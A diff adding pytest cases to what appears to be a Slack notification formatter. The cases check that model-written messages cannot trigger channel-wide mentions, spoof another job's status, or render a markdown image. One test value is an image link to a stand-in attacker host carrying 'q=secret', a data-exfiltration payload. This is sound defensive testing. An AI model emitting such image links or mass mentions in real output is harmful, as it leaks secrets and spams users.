@@ -75,6 +75,20 @@ def test_a_model_cannot_write_commands_of_slack(a_notification):
     assert [line[0] for line in text.splitlines()[1:]] == [">", ">"]
 
 
+@pytest.mark.parametrize(
+    "said", ["@channel", "@All", "hey @here!", "@everyone", "![x](https://evil.example/?q=secret)"]
+)
+def test_a_model_calls_nobody_in_other_chats_and_shows_no_picture(a_notification, said):
+    text = slack(a_notification("Failed", message=said, summary=said))
+
+    assert said not in text
+    assert text.replace("\u200b", "").count(said) == 2
+
+
+def test_an_address_stays_as_it_is(a_notification):
+    assert slack(a_notification(summary="ann@allied.example, @ann [1]!")).endswith("> ann@allied.example, @ann [1]!")
+
+
 def test_a_message_of_several_lines_cannot_tell_of_another_job(a_notification):
     text = slack(a_notification("Failed", message="no)\n:white_check_mark: *Succeeded* shop/deploy\u2028x", summary=""))
 
